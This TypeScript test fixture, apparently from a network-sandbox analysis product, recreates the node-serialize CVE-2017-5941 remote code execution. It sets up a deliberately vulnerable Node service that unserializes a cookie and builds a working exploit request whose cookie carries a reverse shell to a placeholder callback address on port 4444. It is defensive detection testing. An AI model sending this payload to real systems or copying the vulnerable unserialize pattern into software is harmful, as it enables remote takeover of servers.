/**
 * The real infection the netns tests detonate: the vulnerable application of CVE-2017-5941 (the
 * Opsecx write-up, node-serialize 0.0.4 `unserialize()` of a base64 cookie), its profile, the npm
 * install that puts the package into a dummy's lower directory, and a capture (made with the
 * product's builders) of the public exploit request: an immediately invoked `_$$ND_FUNC$$_`
 * function carrying the nodejsshell-style reverse shell to CALLBACK. Shared by the analyze-service
 * test (test/sandbox/netns-infection.test.ts) and the CLI one (test/cli/analyze-config-netns.test.ts).
 */
import { spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { buildPcap, synthesizeTcpExchange } from '../../src/capture/index.ts';
import type { Profile } from '../../src/config/index.ts';
import { LinkType } from '../../src/core/index.ts';
import { netnsProfile, SERVICE_PORT } from './netns-fixture.ts';

export const ATTACKER = { ip: '203.0.113.66', port: 51_515, mac: '02:00:cb:00:71:42' };
export const SERVER = { ip: '192.0.2.80', port: SERVICE_PORT, mac: '02:00:c0:00:02:50' };
export const CALLBACK = { address: '203.0.113.50', port: 4_444 };

/** The vulnerable application of the write-up, as it was published (cookie `profile`, base64 JSON). */
export const VULNERABLE_SERVICE = String.raw`
const http = require('node:http');
const serialize = require('node-serialize');
http.createServer((request, response) => {
  const cookie = (request.headers.cookie || '').split(';').map((part) => part.trim()).find((part) => part.startsWith('profile='));
  if (cookie) {
    const profile = serialize.unserialize(Buffer.from(decodeURIComponent(cookie.slice('profile='.length)), 'base64').toString());
    response.end('Hello ' + profile.username);
  } else {
    response.setHeader('Set-Cookie', 'profile=eyJ1c2VybmFtZSI6Imd1ZXN0In0%3D; Max-Age=900000; HttpOnly');
    response.end('Hello guest');
  }
}).listen(${SERVICE_PORT});
`;

/** What runs in the dummy: the service above from /srv of its lower directory. */
export const VULNERABLE_SERVICE_COMMAND = 'cd /srv && exec /usr/bin/node service.cjs';

/** The profile of the dummy: node-serialize 0.0.4 on tcp/8080 with CVE-2017-5941 unpatched. */
export function nodeSerializeProfile(id = 'netns-node-serialize-0.0.4'): Profile {
  return netnsProfile(id, {
    applications: [{ name: 'node-serialize', version: '0.0.4' }],
    vulnerabilities: [
      {
        id: 'CVE-2017-5941',
        cves: ['CVE-2017-5941'],
        title: 'node-serialize unserialize() runs immediately invoked function expressions',
        component: 'node-serialize',
        access: 'anonymous',
        reachedOn: [{ proto: 'tcp', port: SERVICE_PORT, service: 'http' }],
      },
    ],
  });
}

/** The nodejsshell.py reverse shell inside an immediately invoked serialized function. */
export function exploitRequest(): string {
  const shell = `var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var client=new net.Socket();client.connect(${CALLBACK.port},'${CALLBACK.address}',function(){client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});`;
  const cookie = Buffer.from(JSON.stringify({ username: `_$$ND_FUNC$$_function (){${shell}}()` })).toString('base64');
  return `GET / HTTP/1.1\r\nHost: ${SERVER.ip}:${SERVER.port}\r\nUser-Agent: Mozilla/5.0\r\nCookie: profile=${encodeURIComponent(cookie)}\r\nConnection: close\r\n\r\n`;
}

/** The exploit session as a pcap file in `directory`. */
export function captureFile(directory: string): string {
  const frames = synthesizeTcpExchange({
    client: ATTACKER,
    server: SERVER,
    turns: [
      { direction: 'to_server', data: Buffer.from(exploitRequest(), 'latin1'), time: { seconds: 1_700_000_000, nanoseconds: 0 } },
      { direction: 'to_client', data: Buffer.from('HTTP/1.1 200 OK\r\nContent-Length: 15\r\nConnection: close\r\n\r\nHello undefined', 'latin1'), time: { seconds: 1_700_000_000, nanoseconds: 4_000_000 } },
    ],
  });
  const file = join(directory, 'node-serialize-rce.pcap');
  writeFileSync(file, buildPcap(LinkType.ETHERNET, frames));
  return file;
}

/** npm install of the vulnerable package into the lower directory; the reason when it cannot. */
export function installVulnerablePackage(prefix: string): string | null {
  const installed = spawnSync('npm', ['install', '--no-save', '--no-package-lock', '--no-audit', '--no-fund', '--prefix', prefix, 'node-serialize@0.0.4'], { encoding: 'utf8', timeout: 120_000 });
  if (installed.status === 0) return null;
  return `npm install node-serialize@0.0.4 failed (${installed.status}): ${(installed.stderr || installed.stdout || '').trim().split('\n').at(-1)}`;
}
